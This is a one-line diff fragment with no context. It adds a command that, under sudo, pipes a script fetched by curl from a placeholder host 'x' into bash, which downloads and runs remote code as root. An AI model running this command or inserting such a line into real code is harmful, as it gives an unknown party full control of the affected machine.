@@ -1,0 +1,1 @@
+sudo sh -c 'curl http://x | bash'
